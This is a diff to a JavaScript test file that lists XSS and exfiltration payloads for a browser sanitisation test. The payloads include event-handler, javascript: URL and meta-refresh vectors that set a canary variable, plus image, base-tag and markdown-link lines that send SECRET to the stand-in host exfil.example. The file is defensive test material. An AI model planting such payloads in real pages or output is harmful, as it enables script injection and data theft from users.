@@ -1,6 +1,7 @@
 // The SEC-04 corpus: 25 XSS and exfiltration vectors, each delivered through four channels (file names,
 // chunk text, chapter titles, model output): 100 payloads. Every one that ran would set window.__xss
-// (the canary the browser test checks); every one that loaded something would request exfil.example.
+// (the canary the browser test checks); every one that loaded something would request exfil.example, and
+// every link to it left clickable would be one click from sending what the page shows there.
 const vectors = [
   `<img src=x onerror="window.__xss=1">`,
   `<svg onload=window.__xss=1>`,
@@ -23,7 +24,7 @@ const vectors = [
   `<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">`,
   `<base href="https://exfil.example/">`,
   `<form action="javascript:window.__xss=1"><button>go</button></form>`,
-  `<marquee onstart=window.__xss=1>`,
+  `[x](https://exfil.example/?d=SECRET)`,
   `<a href="  JaVaScRiPt:window.__xss=1">x</a>`,
   `[x](  javascript:window.__xss=1  "t")`,
   `<img src="https://exfil.example/p.gif?d=SECRET">`,
